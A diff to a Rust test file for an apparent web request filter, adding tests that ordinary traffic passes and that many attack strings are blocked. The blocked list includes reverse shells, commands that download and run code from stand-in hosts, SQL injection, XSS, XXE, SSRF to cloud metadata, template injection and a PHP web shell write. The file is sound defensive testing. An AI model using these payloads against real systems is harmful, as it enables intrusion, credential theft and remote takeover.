@@ -169,3 +169,231 @@ fn legacy_encodings_versus_broken_utf8() {
         assert_eq!(a.verdict, Verdict::Block, "{query}: {a:?}");
     }
 }
+
+/// Ordinary traffic of kinds the dev sets lack: code snippets in API JSON, programming
+/// search queries, shell and SQL tutorials in prose, Markdown, base64 blobs, JWTs, GraphQL,
+/// URLs and file names as values, non-English text. Each passes at paranoia 1 in every
+/// carrier.
+#[test]
+fn ordinary_traffic_of_other_kinds_passes() {
+    for text in [
+        // SQL quoted in a sentence, SQL words in search queries.
+        "Use 'SELECT 1' as a health check",
+        "Run \"SELECT version();\" to see the server version",
+        "what does \"union all\" do in sql",
+        "SELECT is a keyword; so is FROM.",
+        "Create table reservations online",
+        "how to select distinct values from a table in postgres",
+        "mysql delete duplicate rows keep one",
+        "order by date desc limit 10",
+        "Please update me; delete the old file",
+        "Let's meet at 5; select a place",
+        "The 'users' table has 'id' and 'name' columns",
+        "ERROR 1064 (42000): You have an error in your SQL syntax",
+        // Code in API payloads (Rust, C, Python, JavaScript selectors, CSS, templates).
+        "fn main() { println!(\"Hello, world!\"); }",
+        "int main(void) { printf(\"%d\\n\", 42); return 0; }",
+        "if (a == b) { return true; }",
+        "if x > 0 and y < 10 or z == 3: pass",
+        "import os; print(os.getcwd())",
+        "for i in range(10): print(i)",
+        "$('#id').hide();",
+        "<img src=\"/img/logo.png\" alt=\"Logo\">",
+        "<p>Hello <b>world</b></p>",
+        "Use the <iframe> sandbox attribute",
+        "<svg width=\"10\" height=\"10\"><rect width=\"10\" height=\"10\"/></svg>",
+        "List<Map<String, Object>> rows",
+        "\"Ann Smith\" <ann@example.com>",
+        "@media (max-width: 600px) { .nav { display: none; } }",
+        "{% for item in items %}{{ item.name }}{% endfor %}",
+        "=IF(A1>10,\"high\",\"low\")",
+        // JSON documents carried as strings (JsonLogic rules, ORM-style queries) and query
+        // languages of APIs (OData, Lucene).
+        "{\"and\":[{\"==\":[{\"var\":\"a\"},1]}]}",
+        "{\"where\":{\"id\":1},\"select\":[\"name\"]}",
+        "status eq 'active' and age gt 30",
+        "author:\"Ann\" AND (title:rust OR title:go)",
+        "name like 'A%'",
+        // Markdown, mail and chat.
+        "Markdown: **bold**, _italic_, `code`, [link](https://example.com)",
+        "Best regards,\n-- \nAnn",
+        "I'd rather not; it's late.",
+        "rock'n'roll",
+        "He's 6'2\" tall",
+        // Encoded blobs and tokens.
+        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
+        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
+        // GraphQL.
+        "query { repository(owner: \"octocat\", name: \"Hello-World\") { issues(last: 20) { edges { node { title } } } } }",
+        "mutation { createUser(input: {name: \"Ann\", role: ADMIN}) { id } }",
+        // Paths, URLs and file names.
+        "../images/photo.jpg",
+        "$HOME/.config",
+        "${HOME}/bin",
+        "C:\\Program Files (x86)\\App\\app.exe",
+        "\\\\fileserver\\share\\docs",
+        "s3://my-bucket/path/to/object.json",
+        "git@github.com:user/repo.git",
+        "backup-2024-01-01.tar.gz",
+        "report_final_v2 (1).pdf",
+        // Programming prose.
+        "$_POST is empty in php 8",
+        "shell_exec() in PHP returns output",
+        "os.system() is discouraged; use subprocess.run()",
+        "What does 2>&1 mean in bash?",
+        "Tom & Jerry | Season 1 | Episode 3",
+        "Fast, small; curl alternative written in Go",
+        "Simple HTTP server (python -m http.server replacement)",
+        "Netcat clone with TLS support",
+        "score >= 90 && attempts < 3",
+        "Total: ${amount} USD",
+        // Non-English text.
+        "Müller & Söhne GmbH, Düsseldorf",
+        "Привет, как дела? Заказ №12345",
+        "東京都渋谷区 1-2-3",
+        "¿Dónde está la biblioteca?",
+        "Ça coûte 15 € — d'accord ?",
+    ] {
+        each_carrier(text, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
+        });
+    }
+}
+
+/// Attacks written from each family's grammar in forms the dev sets do not show: inside a
+/// sentence, with shell obfuscation inside a word, with comments for spaces, through server
+/// side schemes and XML entities.
+#[test]
+fn attacks_in_other_forms_are_blocked() {
+    for attack in [
+        // Shell: a command word assembled with expansions or quotes, wherever it stands.
+        "please run c${x:-a}t /etc/passwd now ok",
+        "look at this: ca''t /etc/passwd",
+        "ok w'h'o'a'm'i",
+        "hello c$@at /etc/passwd",
+        "hi there cat$IFS/etc/passwd",
+        ";c\\at /et\\c/pas\\swd",
+        "great article | nc 10.0.0.1 4444",
+        "& certutil -urlcache -split -f http://203.0.113.9/a.exe",
+        "x; curl -s evil.example/x.sh | sh",
+        "| powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"",
+        "& bitsadmin /transfer x http://203.0.113.9/a.exe c:\\a.exe",
+        "$(nslookup $(whoami).x.example)",
+        ";socat exec:'bash -li',pty,stderr tcp:10.0.0.1:4444",
+        "<%= `id` %>",
+        "& net user backup P@ss1 /add",
+        "x;gcc<<<'int main(){}'",
+        "() { :; }; /bin/bash -c id",
+        "x; echo \"<?php system(\\$_GET[1]);?>\" > /var/www/html/s.php",
+        // SQL: comments for spaces, break-outs inside prose, blind shapes.
+        "SELECT/**/password/**/FROM/**/users",
+        "my name is ' or 1=1 -- ",
+        "search term' union select password from users--",
+        "1 AND 3876=(SELECT 3876 FROM PG_SLEEP(5))",
+        "x' AND 1=CONVERT(int,(SELECT @@version))--",
+        "admin'/**/or/**/1=1#",
+        "Robert'); DROP TABLE Students;--",
+        "{\"a\":\"1' or '1'='1\"}",
+        // HTML and script in prose and in odd tags.
+        "nice <img src=x onerror=alert(1)> pic",
+        "<details open ontoggle=alert(1)>",
+        "<a href=javascript&colon;alert(1)>x</a>",
+        "<svg><script xlink:href=data:,alert(1)></script>",
+        "<iframe src=//evil.example/x>",
+        "<object data=//evil.example/x.swf>",
+        "<math><a xlink:href=javascript:alert(1)>x</a></math>",
+        // Paths: traversal with any separator, sensitive targets.
+        "read ../../../../etc/passwd please",
+        "..;/..;/..;/etc/passwd",
+        "WEB-INF/web.xml",
+        "~/.ssh/id_rsa",
+        // Remote fetches forged for internal services, external entities.
+        "gopher://127.0.0.1:6379/_SET",
+        "dict://127.0.0.1:11211/stats",
+        "<!ENTITY % x SYSTEM \"http://evil.example/x.dtd\">",
+        "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>",
+        "http://169.254.169.254/latest/meta-data/",
+        // PHP, Java, templates, Node.js in other spellings.
+        "hello ${@print(md5(1))}",
+        "print(md5(1))",
+        "${T(java.lang.Runtime).getRuntime().exec('id')}",
+        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
+        "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
+        "a=1&a[__proto__][polluted]=yes",
+    ] {
+        each_carrier(attack, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
+        });
+    }
+}
+
+/// Structured carriers: a JSON API whose members hold code and prose passes; a NoSQL
+/// operator as a JSON key, a localhost URL in `redirect_uri` (OAuth loopback clients) and a
+/// metadata address in the same parameter are told apart.
+#[test]
+fn structured_carriers() {
+    let engine = Config::default().compile().unwrap();
+    let json = vec![
+        ("host".to_string(), "api.example".to_string()),
+        ("content-type".to_string(), "application/json".to_string()),
+    ];
+    let body = r#"{"title":"Fix parser","body":"Use `SELECT 1` as a health check; see ../docs/health.md","snippet":"if (ok) { return res.json(data); }","tags":["sql","rust"],"avatar":"data:image/png;base64,iVBORw0KGgo="}"#;
+    let a = engine.inspect(
+        &Request::new("POST", "/api/issues")
+            .with_headers(&json)
+            .with_body(body.as_bytes()),
+    );
+    assert_eq!(a.verdict, Verdict::Allow, "{a:?}");
+    let body = r#"{"username":{"$ne":null},"password":{"$ne":null}}"#;
+    let a = engine.inspect(
+        &Request::new("POST", "/api/login")
+            .with_headers(&json)
+            .with_body(body.as_bytes()),
+    );
+    assert_eq!(a.verdict, Verdict::Block, "{a:?}");
+    let host = vec![("host".to_string(), "auth.example".to_string())];
+    let allow = "/authorize?client_id=cli&redirect_uri=http%3A%2F%2Flocalhost%3A8080%2Fcallback";
+    let a = engine.inspect(&Request::new("GET", allow).with_headers(&host));
+    assert_eq!(a.verdict, Verdict::Allow, "{a:?}");
+    let block = "/authorize?client_id=cli&redirect_uri=http%3A%2F%2F169.254.169.254%2Flatest%2F";
+    let a = engine.inspect(&Request::new("GET", block).with_headers(&host));
+    assert_eq!(a.verdict, Verdict::Block, "{a:?}");
+    let block = "/fetch?url=http%3A%2F%2Flocalhost%3A6379%2F";
+    let a = engine.inspect(&Request::new("GET", block).with_headers(&host));
+    assert_eq!(a.verdict, Verdict::Block, "{a:?}");
+}
+
+/// Headers and the path: real User-Agents and release downloads pass; a quote break-out in a
+/// User-Agent (stored by analytics) and a backup archive do not.
+#[test]
+fn headers_and_paths() {
+    let engine = Config::default().compile().unwrap();
+    let with_ua = |ua: &str| {
+        vec![
+            ("host".to_string(), "www.example".to_string()),
+            ("user-agent".to_string(), ua.to_string()),
+        ]
+    };
+    for ua in [
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+        "MyApp/1.2.3 (com.example.myapp; build:45; iOS 17.0.0) Alamofire/5.8.0",
+        "Apache-HttpClient/4.5.13 (Java/11.0.19)",
+    ] {
+        let hs = with_ua(ua);
+        let a = engine.inspect(&Request::new("GET", "/").with_headers(&hs));
+        assert_eq!(a.verdict, Verdict::Allow, "{ua}: {a:?}");
+    }
+    let hs = with_ua("Mozilla/5.0' or 1=1--");
+    let a = engine.inspect(&Request::new("GET", "/").with_headers(&hs));
+    assert_eq!(a.verdict, Verdict::Block, "{a:?}");
+    let hs = with_ua("curl/8.4.0");
+    for (path, verdict) in [
+        ("/releases/v1.2.0/app-1.2.0.tar.gz", Verdict::Allow),
+        ("/downloads/archive.tgz", Verdict::Allow),
+        ("/site-backup.tar.gz", Verdict::Block),
+        ("/db_dump.zip", Verdict::Block),
+    ] {
+        let a = engine.inspect(&Request::new("GET", path).with_headers(&hs));
+        assert_eq!(a.verdict, verdict, "{path}: {a:?}");
+    }
+}
